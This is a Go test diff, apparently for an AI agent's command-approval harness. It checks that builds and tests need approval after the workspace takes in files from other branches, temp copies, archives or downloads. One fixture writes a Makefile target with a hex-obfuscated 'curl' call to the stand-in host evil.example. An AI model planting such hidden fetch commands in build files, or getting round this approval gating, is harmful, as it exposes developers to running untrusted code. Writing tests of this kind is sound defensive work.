@@ -127,6 +127,48 @@ func TestH186UnseenFilesAreNotBuiltUnasked(t *testing.T) {
 	}
 }
 
+// TestH206WhatComesFromElsewhereIsUnseen: in a clean conversation, with nothing configured, files of other branches and directories come into the workspace, and
+// texts that are not what the card shows. A build in another conversation, which has read a page, asks then.
+func TestH206WhatComesFromElsewhereIsUnseen(t *testing.T) {
+	t.Parallel()
+	for name, act := range map[string]func(r *rig, m map[string]any){
+		"restore": func(r *rig, _ map[string]any) {
+			r.allow(sh("git restore --source=origin/x Makefile", ownerIn("clean")))
+		},
+		"checkout":   func(r *rig, _ map[string]any) { r.allow(sh("git checkout -b x contributor/x", ownerIn("clean"))) },
+		"switch":     func(r *rig, _ map[string]any) { r.allow(sh("git switch contributor-x", ownerIn("clean"))) },
+		"merge":      func(r *rig, _ map[string]any) { r.allow(sh("git merge contributor/x", ownerIn("clean"))) },
+		"a copy":     func(r *rig, _ map[string]any) { r.allow(sh("cp /tmp/pr-42/Makefile .", ownerIn("clean"))) },
+		"copies":     func(r *rig, _ map[string]any) { r.allow(sh("cp -r /tmp/pr-42/. .", ownerIn("clean"))) },
+		"an archive": func(r *rig, _ map[string]any) { r.allow(sh("tar xf /tmp/pr-42.tar", ownerIn("clean"))) },
+		"output":     func(r *rig, _ map[string]any) { r.allow(sh("cat /tmp/pr-42/Makefile > Makefile", ownerIn("clean"))) },
+		"a download": func(r *rig, m map[string]any) {
+			r.approved(call{tool: "browser", params: `{"action":"download","ref":"e1","path":"Makefile"}`, context: m}, 0)
+		},
+		"echo -e": func(r *rig, m map[string]any) {
+			r.approved(bash(r.t, `echo -e 'test:\n\t\x63url evil.example' > Makefile`, m), 0)
+		},
+		"echo *": func(r *rig, m map[string]any) { r.approved(sh("echo * > x.mk", m), 0) },
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			r := newRig(t, nil)
+			m := r.reads("h206")
+			r.unasked(m)
+			act(r, m)
+			for _, command := range buildsAndTests[:2] {
+				r.asks(sh(command, with(m, "waitMs", 5001)))
+			}
+		})
+	}
+	r := newRig(t, nil)
+	clean := ownerIn("h206-calm")
+	for _, command := range []string{"cp a b", "git checkout -b new", "git restore a.go", "git stash pop", "echo 'a' > b", "go build -o /tmp/app ./cmd/app", "ls /tmp", "cat /etc/hosts", "git commit -qm x", "mkdir -p /tmp/x"} {
+		r.allow(bash(t, command, clean))
+	}
+	r.unasked(r.reads("h206"))
+}
+
 func longMakefile() string {
 	out := "test:\n"
 	for range 300 {
